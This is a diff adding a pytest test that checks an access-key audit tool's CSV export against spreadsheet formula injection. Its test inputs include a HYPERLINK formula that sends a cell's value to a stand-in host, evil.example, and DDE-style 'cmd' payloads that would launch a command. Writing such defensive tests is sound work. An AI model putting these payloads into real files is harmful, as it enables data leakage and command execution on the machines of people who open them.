@@ -171,3 +171,44 @@ def test_anything_unexpected_is_left_to_botocore(response: dict[str, object]) ->
     decode_content_early(response, customized)
     assert customized == {}
     assert response == before
+
+
+@pytest.mark.parametrize(
+    ("hostile", "written"),
+    [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"open")', "'=HYPERLINK"),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\n=1+1"),  # one row still: a bare CR would end it (see cell())
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_evaluate_are_text(hostile: str, written: str) -> None:
+    """A user name and a Contact tag value are written by other principals (OWASP CSV
+    injection): the cell starts with `'`, so a spreadsheet shows it instead of running it."""
+    key = AccessKey(
+        account="111122223333",
+        user=hostile,
+        slot=1,
+        status=KeyStatus.ACTIVE,
+        created=NOW - timedelta(days=40),
+        last_used=None,
+        contact=hostile,
+    )
+    stream = AuditStream(
+        generated_at=NOW,
+        policy=POLICY,
+        source="credential-report",
+        keys=iter([classify(key, NOW, POLICY)]),
+        warnings=[],
+    )
+    out = io.StringIO()
+    write_csv(stream, out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert len(rows) == 1
+    row = rows[0]
+    assert row["user"].startswith(written)
+    assert row["contact"].startswith(written)
+    assert row["user"].replace("\n", "\r") == "'" + hostile  # nothing else changed
+    assert row["age_days"] == "40"  # numbers stay numbers
